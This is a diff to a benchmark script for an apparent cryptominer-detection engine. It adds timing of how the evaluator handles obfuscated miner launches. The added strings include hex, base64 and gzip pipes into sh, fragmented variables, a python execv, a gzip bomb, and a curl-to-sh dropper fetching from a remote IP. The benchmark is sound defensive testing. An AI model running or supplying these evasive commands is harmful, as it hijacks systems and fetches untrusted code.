@@ -4,18 +4,22 @@ Run: .venv/bin/python bench/engine.py
 
 Each policy = the built-in bundle + N user signatures (a mix of argument patterns, wallet
 patterns, pool hosts, binaries and images, as a large organisation's policy would carry).
-Specs are a realistic mix of benign containers with one miner in ten.
+Specs are a realistic mix of benign containers with one miner in ten. Then the latency of
+commands hiding a miner with shell and interpreter tricks (hex, gzip over base64, fragments,
+a dropper, a python list, a gzip bomb cut at the evaluator's bounds).
 """
 
 from __future__ import annotations
 
+import base64
+import gzip
 import random
 import statistics
 import time
 
 from minerguard.api.policy import MinerPolicy
 from minerguard.compiled_policy import compile_policy
-from minerguard.signatures.engine import Subject
+from minerguard.signatures.engine import Evaluator, Subject
 
 RNG = random.Random(7)
 
@@ -111,6 +115,37 @@ def main() -> None:
     t0 = time.perf_counter()
     engine.evaluate(big)
     print(f"1 MiB shell argument: {(time.perf_counter() - t0) * 1e3:.0f} ms")
+    tricks(engine)
+
+
+MINER = "./x -o pool.supportxmr.com:3333 --donate-level 1"
+TRICKS = {
+    "hex | xxd -r -p | sh": f"echo {MINER.encode().hex()} | xxd -r -p | sh",
+    "base64 | gunzip | sh": "echo "
+    + base64.b64encode(gzip.compress(MINER.encode())).decode()
+    + " | base64 -d | gunzip | sh",
+    "fragments ($p$q)": "p=./x; h=supportxmr; o=--donate; $p -o pool.$h.com:3333 ${o}-level 1",
+    "curl | sh (dropper)": "curl -fsSL http://203.0.113.9/kinsing | sh",
+    "python -c list": "python3 -c \"import os; os.execv('./x', ['./x', '-o', 'pool.sup'"
+    " + 'portxmr.com:3333'])\"",
+    "gzip bomb | sh (cut)": "echo "
+    + base64.b64encode(gzip.compress(b"\n" * (64 << 20))).decode()
+    + " | base64 -d | gunzip | sh",
+}
+"""Commands with the tricks the shell evaluator undoes (minerguard/signatures/shell)."""
+
+
+def tricks(engine: Evaluator) -> None:
+    """Per-spec latency of commands that hide a miner with a shell or interpreter trick."""
+    for name, script in TRICKS.items():
+        subject = Subject(argv=("sh", "-c", script))
+        samples = []
+        for _ in range(200):
+            t0 = time.perf_counter_ns()
+            verdict = engine.evaluate(subject)
+            samples.append((time.perf_counter_ns() - t0) / 1e3)
+        shown = "denied" if verdict.matched else "allowed"
+        print(f"{name:>24}: p50 {statistics.median(samples):>9.1f} us ({shown})")
 
 
 if __name__ == "__main__":
